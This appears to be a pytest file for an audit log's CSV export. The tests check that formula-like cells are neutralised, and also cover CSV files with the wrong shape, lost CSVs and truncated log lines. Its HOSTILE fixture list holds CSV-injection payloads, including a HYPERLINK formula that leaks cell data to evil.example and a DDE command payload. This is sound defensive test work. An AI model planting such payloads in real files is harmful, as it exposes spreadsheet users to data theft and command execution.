"""The audit log's CSV copy: spreadsheet-safe cells, and a CSV of another shape set aside rather than appended to."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pandas as pd
import pytest

from opus_nb._exports import FORMULA_STARTS
from opus_nb.jobs._audit import AUDIT_FIELDS, AuditCsvNotWritten, AuditCsvSetAside, AuditLineUnreadable, AuditLog
from opus_nb.jobs._destroy import destroy

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR"]


def _cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as rows:
        return list(csv.reader(rows))


def test_hostile_names_and_messages_are_neutralised_in_the_csv_only(tmp_path: Path) -> None:
    log = AuditLog(tmp_path)
    log.write({"rowKey": f"K-{i}", "name": text, "message": text, "result": "failed"} for i, text in enumerate(HOSTILE))
    rows = _cells(log.csv)
    assert rows[0] == AUDIT_FIELDS
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
    name = AUDIT_FIELDS.index("name")
    assert [row[name] for row in rows[1:]] == ["'" + text for text in HOSTILE]
    assert log.read()["name"].tolist() == HOSTILE  # the JSON lines keep what was written


def test_destroy_of_hostile_rows_writes_a_safe_csv(client, emu, tmp_path: Path) -> None:
    frame = pd.DataFrame({"rowKey": ["=1+2", "@cmd"], "leafName": HOSTILE[:2]})
    results = destroy(frame, confirm=True, recheck=False, progress=False)
    assert results["status"].tolist() == ["failed", "failed"]
    cells = [cell for row in _cells(tmp_path / "opus-audit" / "destroy-audit.csv") for cell in row]
    assert "'=1+2" in cells and "'@cmd" in cells and "'" + HOSTILE[0] in cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]


@pytest.mark.parametrize("header", [AUDIT_FIELDS[:2] + AUDIT_FIELDS[4:], ["Invoice", "Amount"]], ids=["older", "another"])
def test_a_csv_of_another_shape_is_set_aside_and_rebuilt_from_the_json_lines(tmp_path: Path, header: list[str]) -> None:
    log = AuditLog(tmp_path)
    log.write([{"rowKey": "A-1", "result": "intent"}])
    old = ",".join(header) + "\r\nx,y\r\n"
    log.csv.write_bytes(old.encode())
    with pytest.warns(AuditCsvSetAside, match="destroy-audit.csv") as caught:
        log.write([{"rowKey": "A-1", "result": "destroyed"}])
    aside = Path(str(caught[0].message.aside))
    assert aside.parent == tmp_path and aside.read_bytes() == old.encode()
    rows = _cells(log.csv)
    assert rows[0] == AUDIT_FIELDS
    assert [r[AUDIT_FIELDS.index("result")] for r in rows[1:]] == ["intent", "destroyed"]
    log.write([{"rowKey": "A-2", "result": "intent"}])  # from now on appended to as usual
    assert len(_cells(log.csv)) == 4 and len(list(tmp_path.glob("destroy-audit*.csv"))) == 2


def test_a_lost_csv_is_rebuilt_from_the_json_lines(tmp_path: Path) -> None:
    log = AuditLog(tmp_path)
    log.write([{"rowKey": "A-1", "result": "intent"}])
    log.csv.unlink()
    log.write([{"rowKey": "A-1", "result": "destroyed"}])
    assert [r[AUDIT_FIELDS.index("result")] for r in _cells(log.csv)[1:]] == ["intent", "destroyed"]


def test_a_line_cut_short_by_a_kill_does_not_swallow_the_next_entry(tmp_path: Path) -> None:
    log = AuditLog(tmp_path)
    log.write([{"rowKey": "A-1", "result": "intent"}])
    with log.jsonl.open("a", encoding="utf-8") as out:
        out.write(json.dumps({"rowKey": "A-2", "result": "intent"})[:20])
    log.write([{"rowKey": "A-3", "result": "intent"}])
    with pytest.warns(AuditLineUnreadable, match="line 2"):
        entries = log.read()
    assert entries["rowKey"].tolist() == ["A-1", "A-3"]


def test_a_csv_that_cannot_be_written_does_not_stop_the_log(tmp_path: Path) -> None:
    log = AuditLog(tmp_path / "audit")
    log.write([{"reviewer": "Ann", "rowKey": "A-1", "result": "intent"}])
    log.csv.unlink()
    log.csv.mkdir()  # a path that cannot be opened for writing, whoever runs this (a locked file, on Windows)
    with pytest.warns(AuditCsvNotWritten, match="could not be written"):
        log.write([{"reviewer": "Ann", "rowKey": "A-1", "result": "destroyed"}])
    assert log.read()["result"].tolist() == ["intent", "destroyed"]
